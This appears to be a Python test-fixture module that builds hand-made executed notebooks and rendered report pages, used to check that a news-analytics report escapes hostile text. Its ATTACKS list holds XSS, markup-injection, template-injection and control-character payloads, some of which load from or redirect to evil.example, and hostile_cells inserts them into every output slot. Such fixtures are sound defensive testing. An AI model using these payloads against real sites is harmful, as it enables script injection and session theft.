"""Executed notebooks made by hand and the pages of them, for tests of the reports."""

from datetime import UTC, datetime
from pathlib import Path

import nbformat
import pandas as pd
from markupsafe import Markup, escape

from analytics.charts import Label, Mark, plot_map
from analytics.reports import Note
from analytics.reports.manifest import Manifest, NotebookRecord
from analytics.reports.page import render_report
from analytics.reports.results import MIME, Results
from analytics.reports.table_html import shown

# What an author of news might try, each meant to set window.hit or to send a request.
ATTACKS = [
    "<script>window.hit=1</script>",
    "<img src=x onerror=window.hit=1>",
    '"><svg onload=window.hit=1>',
    "'><input autofocus onfocus=window.hit=1>",
    "</title></style></script><script>window.hit=1</script>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "<style>@import url(http://evil.example/a.css); body{background:url(http://evil.example/b)}</style>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'><base href=http://evil.example/>",
    "<form action=http://evil.example/><button formaction=javascript:window.hit=1>x</button></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.hit=1>",
    "<a href=javascript:window.hit=1 onclick=window.hit=1>x</a>",
    "[x](javascript:window.hit=1) ![x](http://evil.example/c.png) <http://evil.example>",
    "[x]: http://evil.example/ 'x'\n\n```{=html}\n<script>window.hit=1</script>\n```",
    "$\\href{javascript:window.hit=1}{x}$ \\(x\\) 从$2亿到$7亿",
    "{{ 7*7 }} {% raw %} ${7*7} <%= 7*7 %>",
    "\x1b]8;;http://evil.example\x07x\x1b]8;;\x07\x1b[31m",
    "\u202egnp.exe \u2066\u200b\ufeff\u00ad\U000e0041\x00",
    "\ud800 half a character",
    "--><!-- ]]> <![CDATA[ <script>window.hit=1</script>",
    "data:text/html,<script>window.hit=1</script>",
    "JaVaScRiPt:window.hit=1",
    "http://x\" onmouseover=window.hit=1 \"",
]  # fmt: skip

SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 720 200">'
    '<rect width="720" height="200" fill="#3a6ea5"/></svg>'
)


def cell(source="view.table()", *outputs, tags=()):
    return nbformat.v4.new_code_cell(source, outputs=list(outputs), metadata={"tags": list(tags)})


def display(data, metadata=None):
    return nbformat.v4.new_output("display_data", data=data, metadata=metadata or {})


def recorded(findings=(), warnings=()):
    return display({MIME: Results(list(findings), list(warnings)).as_dict()})


def table(frame, caption, **options):
    return display(*shown(frame, caption, **options)._repr_mimebundle_())


def picture(svg=SVG, alt="Columns of documents a day."):
    return display({"image/svg+xml": svg}, {"image/svg+xml": {"alt": alt}})


def page_of(cells, *, language="en", corpus="digest.md", parameters=None, **ended):
    """The page of these cells as if they had been executed."""
    record = NotebookRecord(
        name="01_corpus",
        parameters=parameters or {"corpus": corpus},
        started=datetime(2026, 3, 2, 8, 30, tzinfo=UTC),
        **({"status": "completed"} | ended),
    )
    manifest = manifest_of([record], language=language, corpus=corpus)
    notebook = nbformat.v4.new_notebook(cells=cells)
    return render_report(notebook, record, manifest, {"corpus": "file to read"})[0]


def manifest_of(records, **changes):
    values = {
        "run": "digest-20260302-083000",
        "status": "completed",
        "corpus": "digest.md",
        "fingerprint": "f" * 64,
        "n_documents": 3,
        "seed": 0,
        "language": "en",
        "started": datetime(2026, 3, 2, 8, 30, tzinfo=UTC),
        "command": "analytics run --all --corpus digest.md",
        "versions": {"python": "3.12"},
        "notebooks": records,
    }
    return Manifest(**(values | changes))


def ordinary_cells():
    """A report as a reader meets it: findings, a warning, prose, a picture, tables, code."""
    frame = pd.DataFrame(
        {
            "title": [f"星河芯片第{i}代处理器发布，海潮机器人随即宣布采用" for i in range(15)],
            "n": [(i * 7) % 15 for i in range(15)],
            "share": [i / 15 for i in range(15)],
            "tone": ["positive", "neutral", "negative"] * 5,
            "theme": ["GPU", "GPU、IPO", "IPO"] * 5,
            "label": ["pos", "neu", "neg"] * 5,
            "url": [f"https://news.example/{i}" for i in range(15)],
        }
    )
    marked = Markup('{} <mark class="pos">{}</mark>').format("营收", "大增")
    sentences = pd.DataFrame({"sentence": [marked], "document": ["海潮机器人"]})
    return [
        nbformat.v4.new_markdown_cell("# What is it about?\n\nOne question."),
        cell("view.report()", recorded(
            [Note("从$2亿到$7亿: 3 stories", url="https://news.example/1"), Note("See", anchor="Tone")],
            [Note("Only 3 documents.")],
        )),
        nbformat.v4.new_markdown_cell("## Tone\n\nHow it sounds: $2亿到$7亿 and *more*."),
        cell("view.tone()", picture()),
        cell("view.stories()", table(frame, "Stories", link=("title", "url"), tone=("tone", "label"), choices=["theme", "tone"])),
        nbformat.v4.new_markdown_cell("## Sentences"),
        cell("view.sentences()", table(sentences, "Sentences that decided", markup=["sentence"])),
        cell("print(1)", nbformat.v4.new_output("stream", name="stdout", text="\x1b[31m1\x1b[0m\n")),
    ]  # fmt: skip


def map_cells(words="星河芯片发布处理器", n=30):
    """A map whose marks lead to the rows of a table, as in the report on topics."""
    tones = ("positive", "negative")
    marks = [
        Mark(
            i / n, (i * 7 % n) / n, ("", "gpu", "ipo")[i % 3], f"{words} {i}", f"#row-{i}",
            {"theme": ("", "GPU", "上市、GPU")[i % 3], "tone": tones[i % 2]},
        )
        for i in range(n)
    ]  # fmt: skip
    drawing = plot_map(
        marks, title=words, note=words, alt=words, labels=[Label("GPU", 0.5, 0.1, "gpu"), Label(words, 0.5, 0.5)],
        colors={"gpu": "#4458d6", "ipo": "#c8802b"},
    )  # fmt: skip
    rows = pd.DataFrame(
        {
            "title": [f"{words} {i}" for i in range(n)],
            "theme": [("", "GPU", "上市、GPU")[i % 3] for i in range(n)],
            "tone": [tones[i % 2] for i in range(n)],
            "row": range(n),
        },
        dtype=object,
    )
    listed = table(
        rows, "The stories on the map", columns={"title": "Story", "theme": "Theme", "tone": "Tone"},
        choices=["theme", "tone"], row_ids="row",
    )  # fmt: skip
    return [
        nbformat.v4.new_markdown_cell("# What is it about?"),
        nbformat.v4.new_markdown_cell("## A map"),
        cell("view.map()", display(*drawing._repr_mimebundle_())),
        cell("view.mapped_documents()", listed),
    ]


def hostile_cells():
    """Every attack in every place where text of the news can stand."""
    cells = [nbformat.v4.new_markdown_cell(f"# {ATTACKS[4]} {ATTACKS[1]}")]
    notes = [Note(text, url=text, anchor=text) for text in ATTACKS]
    cells.append(cell("view.report()", recorded(notes, notes)))
    for text in ATTACKS:
        frame = pd.DataFrame(
            {"title": [text] * 3, _utf8(text): [text] * 3, "url": [text] * 3}, dtype=object
        )
        marked = pd.DataFrame(
            {"title": [Markup('<mark class="pos">{}</mark>').format(text)]}, dtype=object
        )
        raw = pd.DataFrame({"title": [text]}, dtype=object)  # a view that forgot to escape
        cells += [
            nbformat.v4.new_markdown_cell(text),
            nbformat.v4.new_markdown_cell(f"## {text}"),
            cell(
                f"# {text}",
                table(frame, text, link=("title", "url")),
                table(marked, text, markup=["title"]),
                table(raw, text, markup=["title"]),
                table(frame.head(0), text, empty=text),
                picture(alt=text),
                picture(svg=f'<svg xmlns="http://www.w3.org/2000/svg">{text}<text>{escape(text)}</text></svg>'),
                display({"text/html": text}),
                display({"text/html": f'<a href="{text}" onclick="{text}" style="{text}">x</a>'}),
                display({"text/markdown": text}),
                display({"text/plain": text}),
                display({"application/javascript": "window.hit=1", "text/plain": "x"}),
                nbformat.v4.new_output("stream", name="stderr", text=text),
                nbformat.v4.new_output("error", ename=text, evalue=text, traceback=[text]),
            ),
        ]  # fmt: skip
    return cells


def _utf8(text):
    """A heading pandas can hold."""
    return text.encode("utf-8", "replace").decode()


def write_page(path: Path, html: str) -> str:
    """Write the page and return its address."""
    path.write_bytes(html.encode("utf-8"))
    return path.resolve().as_uri()
